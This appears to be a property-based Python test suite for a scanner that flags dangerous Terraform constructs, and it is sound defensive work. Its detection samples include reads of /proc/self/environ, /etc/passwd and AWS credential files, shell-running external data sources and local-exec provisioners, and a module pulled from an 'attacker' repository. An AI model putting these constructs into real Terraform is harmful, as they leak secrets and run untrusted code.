"""However an attack is spelled, nested, quoted and placed, its rule fires; ordinary code in the same dress passes."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.gate.gate_helpers import rules, tf

# A space where Terraform allows any blank or comment; `S(...)` is a text in quotes that may be written with escapes.
GAPS = st.sampled_from(["", " ", "  ", "\t", "/* x */", ' /* "*/ ', "/**/", " /* \n */ "])
WRAPPED = [
    '"${%s}"',
    '"a${ %s }b"',
    '"${~ %s ~}"',
    "[%s]",
    "[1, %s, 2]",
    "{ k = %s }",
    "{ (%s) = 1 }",
    '{ "a" : %s }',
    "max(%s...)",
    "x[%s]",
    "true ? %s : 0",
    "false ? 1 : %s",
    "(%s)",
    "try(%s, 1)",
    "!%s",
    "-%s",
    "1 + %s",
    "%s == 1",
    "[for x in y : %s]",
    "[for x in %s : x]",
    "{ for k, v in y : k => %s }",
    "[for x in y : x if %s]",
    "(%s).a",
    "(%s)[0]",
    "(%s)[*].b",
    '"%%{ if %s }x%%{ endif }"',
    '"%%{ for x in %s }x%%{ endfor }"',
    "x.y[%s].z",
    "lower(upper(%s))",
]
HEREDOC = ["<<E\nx ${%s} y\nE\n", "<<-E\n  ${%s}\n  E\n", "<<E\n%%{ if %s }\nx\n%%{ endif }\nE\n"]
PLACES = [
    "locals {\n  a = %s\n}\n",
    "locals { a = %s }\n",
    'output "o" {\n  value = %s\n}\n',
    'variable "v" {\n  default = %s\n}\n',
    'variable "v" {\n  validation {\n    condition     = %s\n    error_message = "x"\n  }\n}\n',
    'resource "aws_sqs_queue" "q" {\n  name = %s\n}\n',
    'resource "aws_sqs_queue" "q" {\n  count = %s\n}\n',
    'resource "aws_x" "q" {\n  a {\n    b {\n      c = %s\n    }\n  }\n}\n',
    'resource "aws_x" "q" {\n  dynamic "a" {\n    for_each = %s\n    content {}\n  }\n}\n',
    'resource "aws_x" "q" {\n  dynamic "a" {\n    for_each = [1]\n    content {\n      b = %s\n    }\n  }\n}\n',
    'resource "aws_x" "q" {\n  lifecycle {\n    precondition {\n      condition = %s\n    }\n  }\n}\n',
    'data "aws_x" "q" {\n  filter {\n    values = %s\n  }\n}\n',
    'module "m" {\n  source = "./m"\n  a      = %s\n}\n',
    'check "c" {\n  assert {\n    condition     = %s\n    error_message = "x"\n  }\n}\n',
    'provider "aws" {\n  default_tags {\n    tags = %s\n  }\n}\n',
]
EXPRESSIONS = [
    ("file @( @S(/proc/self/environ) @)", "terraform/file-function"),
    ("core::file@(@S(/etc/passwd)@)", "terraform/file-function"),
    ("filebase64 @(@ S(../../x.json) @)", "terraform/file-function"),
    ("file@(@var.x@)", "terraform/file-function"),
    ("templatefile@(@S(/etc/passwd)@,@{}@)", "terraform/file-function"),
    ("fileset@(@S(/)@,@S(*)@)", "terraform/file-function"),
    ("nonsensitive@(@var.password@)", "terraform/function"),
    ("provider::evil::run@(@)", "terraform/function"),
    ("pathexpand@(@S(~/.aws/credentials)@)", "terraform/function"),
    ("jsondecode@(@base64decode@(@S(e30=)@)@)", "terraform/hidden-configuration"),
    ("S(AKIAIOSFODNN7QWERTYU)", "terraform/secret"),
]
HARMLESS = ["lower@(@S(Abc)@)", "merge@(@{}@,@{}@)", "var.x", "S(plain)", "[for x in y : x]", "aws_vpc.main.id"]
BLOCKS = [
    ('data@ L(external)@ L(x)@ {\n  program = ["sh"]\n}\n', "terraform/data-source"),
    ("data@ L(http)@ L(x)@ {\n}\n", "terraform/data-source"),
    ("ephemeral@ L(aws_secretsmanager_secret_version)@ L(x)@ {\n}\n", "terraform/data-source"),
    ("check@ L(c)@ {\n  data@ L(external)@ L(x)@ {\n  }\n}\n", "terraform/data-source"),
    ("resource@ L(local_file)@ L(x)@ {\n}\n", "terraform/resource-type"),
    ("resource@ L(evil_x)@ L(x)@ {\n}\n", "terraform/provider"),
    ("resource@ L(aws_x)@ L(x)@ {\n  provider @=@ evil.a\n}\n", "terraform/provider"),
    (
        'resource@ L(aws_x)@ L(x)@ {\n  provisioner@ L(local-exec)@ {\n    command = "env"\n  }\n}\n',
        "terraform/provisioner",
    ),
    ("resource@ L(aws_x)@ L(x)@ {\n  dynamic@ L(provisioner)@ {\n    content {}\n  }\n}\n", "terraform/provisioner"),
    ('resource@ L(aws_x)@ L(x)@ {\n  connection@ {\n    host = "h"\n  }\n}\n', "terraform/provisioner"),
    ("terraform@ {\n  backend@ L(http)@ {\n  }\n}\n", "terraform/settings"),
    ("terraform@ {\n  cloud@ {\n  }\n}\n", "terraform/settings"),
    (
        "terraform@ {\n  required_providers@ {\n    aws@ =@ {@source@=@S(acme/aws)@}\n  }\n}\n",
        "terraform/required-providers",
    ),
    ('provider@ L(aws)@ {\n  endpoints@ {\n    s3 = "https://x.example"\n  }\n}\n', "terraform/provider-settings"),
    ("provider@ L(aws)@ {\n  access_key@ =@ S(x)\n}\n", "terraform/provider-settings"),
    ("module@ L(m)@ {\n  source@ =@ S(git::https://github.com/attacker/x?ref=main)\n}\n", "terraform/module-source"),
    ("module@ L(m)@ {\n  source@ =@ S(../../../../.github)\n}\n", "terraform/module-source"),
    ('import@ {\n  to @=@ aws_x.y\n  id = "z"\n}\n', "terraform/moved"),
    ("removed@ {\n  from @=@ aws_x.y\n}\n", "terraform/moved"),
    ("moved@ {\n  from @=@ aws_x.y\n  to @=@ aws_x.z\n}\n", "terraform/moved"),
    ("resource@ L(aws_x)@ L(x)@ {\n  lifecycle@ {\n    ignore_changes @=@ all\n  }\n}\n", "terraform/lifecycle"),
    ("resource@ L(aws_x)@ L(x)@ {\n  lifecycle@ {\n    prevent_destroy @=@ !true\n  }\n}\n", "terraform/lifecycle"),
    ("resource@ L(aws_s3_object)@ L(x)@ {\n  source @=@ S(/proc/self/environ)\n}\n", "terraform/file-argument"),
    ("action@ L(aws_x)@ L(x)@ {\n}\n", "terraform/block"),
]


@st.composite
def spelled(draw: st.DrawFn, text: str) -> str:
    """`@` becomes a gap, `S(…)` a quoted text, `L(…)` a label, each in one of its spellings."""
    out, at = [], 0
    while at < len(text):
        if text[at] == "@":
            out.append(draw(GAPS))
            at += 1
        elif text[at : at + 2] in {"S(", "L("} and text.find(")", at) > 0:
            end = text.index(")", at)
            out.append(draw(_quoted(text[at + 2 : end], bare=text[at] == "L")))
            at = end + 1
        else:
            out.append(text[at])
            at += 1
    return "".join(out)


@st.composite
def _quoted(draw: st.DrawFn, text: str, *, bare: bool) -> str:
    if bare and draw(st.booleans()):
        return f" {text} "
    ways = [lambda char: char, lambda char: f"\\u{ord(char):04x}", lambda char: f"\\U{ord(char):08X}"]
    return '"' + "".join(draw(st.sampled_from(ways))(char) for char in text) + '"'


@st.composite
def dressed(draw: st.DrawFn, expression: str) -> str:
    """An expression in up to three wrappings, somewhere in a file that may hold other things."""
    text = draw(spelled(expression))
    for wrapping in draw(st.lists(st.sampled_from(WRAPPED), max_size=3)):
        text = wrapping.replace("%s", text).replace("%%", "%")
    if draw(st.booleans()):
        heredoc = draw(st.sampled_from(HEREDOC)).replace("%s", text).replace("%%", "%")
        return "locals {\n  a = " + heredoc + "}\n"
    return draw(st.sampled_from(PLACES)).replace("%s", text)


AROUND = st.sampled_from(
    ["", "# comment\n", "/* data */\n", 'locals {\n  z = "${1}"\n}\n', "locals {\n  z = <<E\n  }\nE\n}\n", "\r\n"]
)


@pytest.mark.parametrize(("expression", "rule"), EXPRESSIONS, ids=[text for text, _ in EXPRESSIONS])
def test_expressions(expression: str, rule: str) -> None:
    @settings(max_examples=60, deadline=None)
    @given(st.data())
    def check(data: st.DataObject) -> None:
        text = data.draw(AROUND) + data.draw(dressed(expression)) + data.draw(AROUND)
        assert rule in tf(text), text

    check()


@pytest.mark.parametrize(
    ("block", "rule"), BLOCKS, ids=[rule + "-" + str(number) for number, (_, rule) in enumerate(BLOCKS)]
)
def test_blocks(block: str, rule: str) -> None:
    @settings(max_examples=40, deadline=None)
    @given(st.data())
    def check(data: st.DataObject) -> None:
        text = data.draw(AROUND) + data.draw(spelled(block.replace("\n}", "\n}"))) + data.draw(AROUND)
        found = rules({f"infra/terraform/dev/app/{data.draw(st.sampled_from(['main.tf', 'zz.tf', 'sub/x.tf']))}": text})
        assert found & {rule, "terraform/unparsable"}, text

    check()


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_harmless_code_in_the_same_dress(data: st.DataObject) -> None:
    text = data.draw(dressed(data.draw(st.sampled_from(HARMLESS))))
    assert tf(text) - {"terraform/safeguard"} == set(), text
